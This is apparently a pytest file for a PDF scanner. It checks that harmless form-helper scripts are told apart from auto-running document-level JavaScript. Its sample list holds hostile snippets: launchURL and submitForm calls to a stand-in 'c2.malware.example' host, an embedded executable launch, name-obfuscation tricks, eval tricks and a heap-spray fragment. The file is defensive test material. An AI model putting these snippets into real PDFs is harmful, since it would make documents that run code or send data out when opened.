"""Scripts of a PDF's document level: those that only help a form, and those that act."""

from __future__ import annotations

from collections.abc import Callable

import pytest
from sekisho_core.vocabulary import Reading
from sekisho_inspection.pdf_helpers import is_helper

Read = Callable[..., Reading]
HELPERS = {
    "a sum": """/********** belongs to: Document-Level:Sum **********/
function sum(cName)
{
  var total = 0; // yen
  for (var i = 1; i <= 10; i++) {
    var f = this.getField(cName + "." + i);
    if (f != null && f.value != '') total += Number(f.value);
  }
  event.value = util.printf("%,0.0f", total);
}""",
    "a check": "function check() { var day = /^\\d{4}\\/\\d{2}$/;\n"
    'if (!day.test(event.value)) { app.alert("年月を入力してください", 1); event.rc = false; } }',
    "constants": 'var cMessage = "入力 (必須)";\n'
    'var nMost = 10, aNames = [1, 2, "x"];\nfunction f(a) { return aNames[a]; }',
    "Acrobat's own": 'function form() { AFNumber_Format(0, 0, 0, 0, "", true); }',
}
ACTORS = {
    "a call": "app.alert('x');",
    "a link": "app.launchURL('http://c2.malware.example/', true);",
    "a file": "this.exportDataObject({cName: 'a.exe', nLaunch: 2});",
    "a form": "this.submitForm({cURL: 'http://c2.malware.example/'});",
    "in a function": "function f() { app.launchURL('http://c2.malware.example/') }",
    "a function that is called": "function f() {}\nf();",
    "a condition": "if (app.viewerVersion > 5) { var x = 1; }",
    "a joined name": "function f() { app['laun' + 'chURL']('x') }",
    "an object by another name": "function f() { var a = app; a[n]('x') }",
    "a document by another name": "function f() { var d = this; var g = d['sub' + 'mitForm']; g('x') }",
    "a bare name": "function g() {} function f() { g = submitForm; g('x') }",
    "a name that is given": "function h(g) { g('x') }",
    "a member on the next line": "function f() { app.\nlaunchURL('x') }",
    "a member behind a comment": "function f() { app./* x */launchURL('x') }",
    "an escaped name": "function f() { app.l\\u0061unchURL('x') }",
    "code of a text": "function f() { eval(this.info.Title) }",
    "code of a constructor": "function f() { [].constructor.constructor('x')() }",
    "a with": "function f() { with (app) { l(x) } }",
    "a template": "function f() { return `${x}` }",
    "a width": "function f() { util.printf('%45000f', 1.2) }",
    "a spray": "var s = unescape('%u9090%u9090');\nwhile (s.length < 99999) s += s;",
    "a timer": "var t = app.setTimeOut('x()', 100);",
    "a stroke that is no division": "function f() { if (x) /'/; app.launchURL('http://x')//'\n}",
    "a stroke with a mark": "function f() { return /[/'/; app.launchURL('x')]/; }",
    "a page's comment": "function f() {}\n<!-- /*\napp.alert(1)\n// */",
    "a line of another kind": "// \u2028 app.launchURL('x')\nfunction f() {}",
    "a bracket too many": "function f() {} }\napp.alert(1);{",
    "a function at once": "var x = (function () { })()",
    "nothing to call": "var x = f\n(1)",
}


def pdf(code: str) -> bytes:
    """A document with a script in its name tree."""
    digits = (code.encode() if code.isascii() else b"\xfe\xff" + code.encode("utf-16-be")).hex()
    return (
        "%PDF-1.7\n1 0 obj<</Type/Catalog/Pages 2 0 R/Names<</JavaScript<</Names[(a) 3 0 R]>>>>>>endobj\n"
        f"2 0 obj<</Type/Pages/Kids[]/Count 0>>endobj\n3 0 obj<</S/JavaScript/JS<{digits}>>>endobj\n"
        "trailer<</Size 4/Root 1 0 R>>\n%%EOF\n"
    ).encode()


@pytest.mark.parametrize("name", HELPERS)
def test_helpers_do_not_run_by_themselves(name: str, read: Read, attach: Callable[..., bytes]) -> None:
    """B51: a form's helpers are JavaScript, and none that runs without a click."""
    kinds = {item.kind for item in read(attach("x", ("a.pdf", pdf(HELPERS[name])))).findings}
    assert "pdf-javascript" in kinds
    assert "pdf-auto-javascript" not in kinds


@pytest.mark.parametrize("name", ACTORS)
def test_others_run_by_themselves(name: str, read: Read, attach: Callable[..., bytes]) -> None:
    """B42: whatever else a script of the document level does, or may do, runs when the document opens."""
    assert "pdf-auto-javascript" in {item.kind for item in read(attach("x", ("a.pdf", pdf(ACTORS[name])))).findings}


def test_a_chained_action_is_no_helper(read: Read, attach: Callable[..., bytes]) -> None:
    """B42: an action behind a helper runs with it."""
    content = pdf("function f() {}").replace(b"/S/JavaScript/JS", b"/Next<</S/Launch/F(a.exe)>>/S/JavaScript/JS")
    kinds = {item.kind for item in read(attach("x", ("a.pdf", content))).findings}
    assert {"pdf-auto-action", "pdf-launch"} <= kinds


@pytest.mark.parametrize(
    "unit", ["function f(){", "var x=1;", "function f(){}\n", "/*", "'a", "var a = b, c = d, ", "((("]
)
def test_hostile_scripts_end(unit: str) -> None:
    """C13: what is a hundred thousand characters of one thing has an answer."""
    assert is_helper(unit * (100_000 // len(unit))) in (True, False)
